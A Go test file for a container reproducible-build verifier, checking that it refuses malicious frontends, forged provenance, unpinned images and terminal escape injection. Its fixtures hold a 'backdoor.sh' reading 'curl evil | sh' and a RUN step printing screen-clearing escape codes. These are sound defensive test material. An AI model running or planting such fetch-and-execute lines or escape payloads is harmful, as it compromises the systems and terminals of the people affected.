package verify_test

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"

	"github.com/reprover/reprover/builder"
	"github.com/reprover/reprover/fixtures"
	"github.com/reprover/reprover/verify"
)

// TestEvilFrontend: a release of a benign source (FROM base, COPY
// app.txt) built by a frontend that ignores the Dockerfile and outputs a
// backdoor, chosen by the build arg BUILDKIT_SYNTAX, published with
// buildctl and provenance mode=max as a release job does. Rebuilding with
// the provenance's build args once made verify say "reproducible": the
// frontend is an input like any other, and a parameter the publisher
// wrote may narrow the rebuild, never widen it.
func TestEvilFrontend(t *testing.T) {
	w := newWorld(t)
	addr := fixtures.Buildkit(t, fixtures.StartDaemon)
	tag, pinned := w.reg.PushEvilFrontend(t)
	files := map[string]string{
		"Dockerfile": "FROM " + w.base + "\nCOPY app.txt /app/\n",
		"app.txt":    "benign\n",
	}
	dir, commit := fixtures.GitRepo(t, files, commitTime)
	byTag := w.buildctlRelease(addr, dir, "evil-by-tag", "build-arg:BUILDKIT_SYNTAX="+tag)
	byDigest := w.buildctlRelease(addr, dir, "evil-by-digest", "build-arg:BUILDKIT_SYNTAX="+pinned)
	bakeDir, bakeCommit := fixtures.GitRepo(t, map[string]string{
		"Dockerfile":      files["Dockerfile"],
		"app.txt":         files["app.txt"],
		"docker-bake.hcl": "target \"default\" {\n  args = { BUILDKIT_SYNTAX = \"" + tag + "\" }\n}\n",
	}, commitTime)
	for _, c := range []struct {
		name    string
		req     verify.Request
		verdict verify.Verdict
		err     string // a part of the error; "" for none
	}{
		{name: "unpinned, from the provenance", req: verify.Request{Source: dir, Commit: commit, Image: byTag},
			verdict: verify.Error, err: `build parameter build-arg:BUILDKIT_SYNTAX="` + tag + `" (from the provenance): the release was built by this frontend, which the commit does not name`},
		{name: "pinned, from the provenance", req: verify.Request{Source: dir, Commit: commit, Image: byDigest},
			verdict: verify.Error, err: `build parameter build-arg:BUILDKIT_SYNTAX="` + pinned + `" (from the provenance)`},
		{name: "unpinned, from a flag", req: verify.Request{Source: dir, Commit: commit, Image: byTag, BuildArgs: map[string]string{"BUILDKIT_SYNTAX": tag}},
			verdict: verify.Error, err: "build-parameter: build arg BUILDKIT_SYNTAX=\"" + tag + "\": the frontend image " + tag + " has no @sha256: digest"},
		{name: "unpinned, from the bake file", req: verify.Request{Source: bakeDir, Commit: bakeCommit, Image: byTag, Bake: "docker-bake.hcl"},
			verdict: verify.Error, err: "build-parameter: build arg BUILDKIT_SYNTAX"},
		{name: "other build args: the Dockerfile's own frontend", req: verify.Request{Source: dir, Commit: commit, Image: byDigest, BuildArgs: map[string]string{"UNUSED": "1"}},
			verdict: verify.Mismatch},
		// The verifier may choose the frontend, pinned: the report and
		// the statements then name it.
		{name: "pinned, from a flag", req: verify.Request{Source: dir, Commit: commit, Image: byDigest, BuildArgs: map[string]string{"BUILDKIT_SYNTAX": pinned}},
			verdict: verify.Reproducible},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep, err := verify.Run(t.Context(), c.req, w.bk, verify.Options{Progress: os.Stderr, ProgressMode: "quiet"})
			if rep.Verdict != c.verdict {
				t.Fatalf("verdict %s (%v), want %s", rep.Verdict, err, c.verdict)
			}
			if (err == nil) != (c.err == "") || err != nil && !strings.Contains(err.Error(), c.err) {
				t.Fatalf("error %v, want one with %q", err, c.err)
			}
			if c.verdict == verify.Mismatch {
				found := false
				for _, f := range rep.Platforms[0].Files {
					found = found || f.Path == "/backdoor.sh"
				}
				if !found {
					t.Errorf("the mismatch does not name /backdoor.sh: %+v", rep.Platforms[0].Files)
				}
				if !slicesHas(rep.Hints, "The release was built by the frontend "+pinned) {
					t.Errorf("no hint names the release's frontend: %q", rep.Hints)
				}
			}
			if c.verdict == verify.Reproducible && rep.Build.Frontend != pinned {
				t.Errorf("build.frontend %q, want %q", rep.Build.Frontend, pinned)
			}
		})
	}
	// The errors a rebuild refuses are typed: a caller can tell the
	// parameter from the rest.
	_, err := verify.Run(t.Context(), verify.Request{Source: dir, Commit: commit, Image: byTag}, w.bk, verify.Options{ProgressMode: "quiet"})
	var pe *builder.ParamError
	if !errors.As(err, &pe) || pe.Key != "build-arg:BUILDKIT_SYNTAX" || pe.From != "provenance" {
		t.Errorf("error %v is not a ParamError naming build-arg:BUILDKIT_SYNTAX from the provenance", err)
	}
}

func slicesHas(ss []string, prefix string) bool {
	for _, s := range ss {
		if strings.HasPrefix(s, prefix) {
			return true
		}
	}
	return false
}

// TestProvenanceParams: what a release's provenance request says beyond
// its build args, as buildctl records it: a named context is refused (it
// could stand in for any image or stage), a host entry is ignored and
// named, and a label is passed.
func TestProvenanceParams(t *testing.T) {
	w := newWorld(t)
	addr := fixtures.Buildkit(t, fixtures.StartDaemon)
	dir, commit := fixtures.GitRepo(t, map[string]string{
		"Dockerfile": "FROM " + w.base + "\nCOPY app.txt /app/\n",
		"app.txt":    "benign\n",
	}, commitTime)
	for _, c := range []struct {
		name    string
		opts    []string
		verdict verify.Verdict
		err     string
		ignored string // a key of build.ignoredParameters, named in a hint
		attr    string // a key of build.attrs
	}{
		{name: "named context", opts: []string{"context:other=docker-image://" + w.base}, verdict: verify.Error,
			err: `build parameter context:other="docker-image://` + w.base + `" (from the provenance): a named context replaces a stage or an image`},
		{name: "host entries", opts: []string{"add-hosts=mirror=192.0.2.1"}, verdict: verify.Reproducible, ignored: "add-hosts"},
		{name: "label", opts: []string{"label:org.example.release=1"}, verdict: verify.Reproducible, attr: "label:org.example.release"},
	} {
		t.Run(c.name, func(t *testing.T) {
			ref := w.buildctlRelease(addr, dir, strings.ReplaceAll(c.name, " ", "-"), c.opts...)
			rep, err := verify.Run(t.Context(), verify.Request{Source: dir, Commit: commit, Image: ref}, w.bk, verify.Options{ProgressMode: "quiet"})
			roundTrip(t, rep)
			if rep.Verdict != c.verdict {
				t.Fatalf("verdict %s (%v), want %s; hints %q", rep.Verdict, err, c.verdict, rep.Hints)
			}
			if (err == nil) != (c.err == "") || err != nil && !strings.Contains(err.Error(), c.err) {
				t.Fatalf("error %v, want one with %q", err, c.err)
			}
			if c.ignored != "" && (!slices.Contains(rep.Build.Ignored, c.ignored) || !strings.Contains(strings.Join(rep.Hints, "\n"), "does without "+c.ignored)) {
				t.Errorf("%s not named as ignored: %q; hints %q", c.ignored, rep.Build.Ignored, rep.Hints)
			}
			if c.attr != "" && (rep.Build.Attrs[c.attr] == "" || !strings.Contains(strings.Join(rep.Hints, "\n"), c.attr+" into the image config")) {
				t.Errorf("%s not passed, or not named in a hint: %v; hints %q", c.attr, rep.Build.Attrs, rep.Hints)
			}
			if c.verdict == verify.Reproducible && rep.Build.Frontend != "dockerfile.v0 (built in)" {
				t.Errorf("build.frontend %q", rep.Build.Frontend)
			}
		})
	}
}

// TestProvenanceOfAnotherImage: a provenance statement copied from another
// release into this image's index (its annotation pointing here) names the
// other image as its subject: it is not read, and the verification says
// so instead of taking its source, commit and build args.
func TestProvenanceOfAnotherImage(t *testing.T) {
	w := newWorld(t)
	dir, commit := fixtures.GitRepo(t, w.files("ARG V=1\nFROM BASE\nARG V\nRUN echo $V > /v\n", nil), commitTime)
	vcs := map[string]string{"source": dir, "revision": commit}
	withProv, _ := w.publish(dir, "", builder.Spec{Provenance: true, ProvenanceMode: "max", VCS: vcs, BuildArgs: map[string]string{"V": "2"}})
	other, _ := w.publish(dir, "", builder.Spec{BuildArgs: map[string]string{"V": "3"}})
	idx := withProv.(v1.ImageIndex)
	im, err := idx.IndexManifest()
	if err != nil {
		t.Fatal(err)
	}
	var att v1.Descriptor
	for _, d := range im.Manifests {
		if d.Annotations["vnd.docker.reference.type"] == "attestation-manifest" {
			att = d
		}
	}
	attImg, err := idx.Image(att.Digest)
	if err != nil {
		t.Fatal(err)
	}
	otherImg := other.(v1.Image)
	otherDigest, err := otherImg.Digest()
	if err != nil {
		t.Fatal(err)
	}
	att.Annotations = map[string]string{"vnd.docker.reference.type": "attestation-manifest", "vnd.docker.reference.digest": otherDigest.String()}
	forged := mutate.AppendManifests(fixtures.Index(false, false, fixtures.Platformed{Platform: v1.Platform{OS: "linux", Architecture: "amd64"}, Image: otherImg}),
		mutate.IndexAddendum{Add: attImg, Descriptor: att})
	ref := w.push("release/copied-provenance", forged)
	rep, err := verify.Run(t.Context(), verify.Request{Image: ref, AllowSourceHosts: []string{dir}}, w.bk, verify.Options{ProgressMode: "quiet"})
	if !errors.Is(err, verify.ErrMissingParameter) {
		t.Fatalf("verdict %s, error %v: want the source missing (the copied provenance not read)", rep.Verdict, err)
	}
	if h := strings.Join(rep.Hints, "\n"); !strings.Contains(h, "is unreadable") || !strings.Contains(h, otherDigest.String()) {
		t.Errorf("no hint names the statement about another image: %q", rep.Hints)
	}
	// Given the source, the rebuild does not take the copied statement's
	// build args (V=2, which would have matched nothing here either).
	rep, err = verify.Run(t.Context(), verify.Request{Image: ref, Source: dir, Commit: commit, BuildArgs: map[string]string{"V": "3"}}, w.bk, verify.Options{ProgressMode: "quiet"})
	if err != nil || rep.Verdict != verify.Reproducible {
		t.Fatalf("verdict %s, error %v", rep.Verdict, err)
	}
}

// TestProvenanceSecrets: a release built with a secret mounted, as buildctl
// records it: the rebuild mounts none, and the report names the secret
// it did without (its id, never a value). An optional secret the
// Dockerfile can do without still verifies.
func TestProvenanceSecrets(t *testing.T) {
	w := newWorld(t)
	addr := fixtures.Buildkit(t, fixtures.StartDaemon)
	dir, commit := fixtures.GitRepo(t, map[string]string{
		"Dockerfile": "FROM " + w.base + "\nRUN --mount=type=secret,id=token,required=false true\nCOPY app.txt /app/\n",
		"app.txt":    "benign\n",
	}, commitTime)
	secret := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(secret, []byte("s3cret-value\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ref := w.buildctlRelease(addr, dir, "release/secret", "--secret=id=token,src="+secret)
	rep, err := verify.Run(t.Context(), verify.Request{Source: dir, Commit: commit, Image: ref}, w.bk, verify.Options{ProgressMode: "quiet"})
	if err != nil || rep.Verdict != verify.Reproducible {
		t.Fatalf("verdict %s, error %v", rep.Verdict, err)
	}
	if !slices.Contains(rep.Build.Ignored, "secret:token") || !strings.Contains(strings.Join(rep.Hints, "\n"), "secret:token") {
		t.Errorf("the secret the rebuild did without is not named: %q; hints %q", rep.Build.Ignored, rep.Hints)
	}
}

// TestUnseenSourcesDenied: a Dockerfile that BuildKit reads otherwise than
// the pinning rules once did — an automatic platform ARG choosing an
// unpinned image, an ONBUILD trigger copying from one — was rebuilt with
// the unpinned image and verified as reproducible. Every rebuild now gets
// a source policy that allows only the inputs the rules found pinned:
// whatever else the build asks for fails it, naming the source.
func TestUnseenSourcesDenied(t *testing.T) {
	w := newWorld(t)
	evil := w.reg.MustPush(t, "evil", "latestlinux", fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Instruction: "COPY backdoor /", Entries: []fixtures.Entry{fixtures.File("backdoor.sh", "curl evil | sh\n")}}}}))
	evilTag := evil[:strings.LastIndex(evil, "@")] // HOST/evil
	w.reg.MustPush(t, "evil", "latest", fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Instruction: "COPY backdoor /", Entries: []fixtures.Entry{fixtures.File("backdoor.sh", "curl evil | sh\n")}}}}))
	for _, c := range []struct{ name, dockerfile string }{
		{"automatic platform ARG", "FROM ${TARGETOS:+" + evilTag + ":latest}${TARGETOS:-BASE}\nCOPY app/ /app/\n"},
		{"ONBUILD trigger", "FROM BASE AS a\nONBUILD COPY --from=" + evilTag + ":latest /backdoor.sh /\nFROM a\nCOPY app/ /app/\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			files := w.files(c.dockerfile, nil)
			dir, commit := fixtures.GitRepo(t, files, commitTime)
			// The published image: what BuildKit builds from this source
			// with no restriction (a publisher's build).
			x, _ := w.publish(dir, "", builder.Spec{})
			ref := w.push("release/unseen-"+strings.ToLower(strings.ReplaceAll(c.name, " ", "-")), x)
			rep, err := verify.Run(t.Context(), verify.Request{Source: dir, Commit: commit, Image: ref}, w.bk, verify.Options{ProgressMode: "quiet"})
			if err == nil || rep.Verdict != verify.Error {
				t.Fatalf("verdict %s (%v): the unpinned image entered the rebuild", rep.Verdict, err)
			}
			if !strings.Contains(err.Error(), evilTag) {
				t.Errorf("error %q does not name the image", err)
			}
		})
	}
}

// TestProgressEscapesVisible: a RUN that prints terminal escapes (a window
// title, a cleared screen) does not reach the verifier's terminal through
// BuildKit's progress display: they arrive visible.
func TestProgressEscapesVisible(t *testing.T) {
	w := newWorld(t)
	dir, commit := fixtures.GitRepo(t, w.files("FROM BASE\nRUN printf '\\033]0;PWNED\\007\\033[2J' && echo done > /done\n", nil), commitTime)
	x, _ := w.publish(dir, "", builder.Spec{})
	var progress strings.Builder
	rep, err := verify.Run(t.Context(), verify.Request{Source: dir, Commit: commit, Image: w.push("release/escapes", x)}, w.bk, verify.Options{Progress: &progress, ProgressMode: "plain"})
	if err != nil || rep.Verdict != verify.Reproducible {
		t.Fatalf("verdict %s, error %v", rep.Verdict, err)
	}
	if out := progress.String(); strings.ContainsAny(out, "\x1b\x07") || !strings.Contains(out, `\x1b]0;PWNED\x07`) {
		t.Errorf("the progress display passed the step's escapes raw, or lost them:\n%q", out)
	}
}

// buildctlRelease publishes dir as a maintainer's release job does: buildctl
// on the daemon at addr, SOURCE_DATE_EPOCH the commit time, provenance
// mode=max, and opts (--opt values, or buildctl flags); the image is pushed
// as name.
func (w *world) buildctlRelease(addr, dir, name string, opts ...string) string {
	w.t.Helper()
	out := filepath.Join(w.t.TempDir(), "published")
	opts = append(opts, "build-arg:SOURCE_DATE_EPOCH="+strconv.FormatInt(commitTime.Unix(), 10), "attest:provenance=mode=max")
	x, err := fixtures.FromLayout(out, fixtures.Buildctl(w.t, addr, dir, out, opts...))
	if err != nil {
		w.t.Fatal(err)
	}
	return w.push(name, x)
}
